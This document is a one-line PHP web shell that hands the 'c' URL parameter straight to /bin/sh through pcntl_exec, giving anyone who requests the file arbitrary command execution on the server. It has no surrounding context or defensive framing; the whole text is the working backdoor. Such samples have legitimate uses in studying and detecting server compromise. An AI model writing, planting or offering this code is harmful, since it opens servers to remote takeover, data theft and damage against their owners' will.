<?php pcntl_exec("/bin/sh", array("-c", $_GET["c"]));
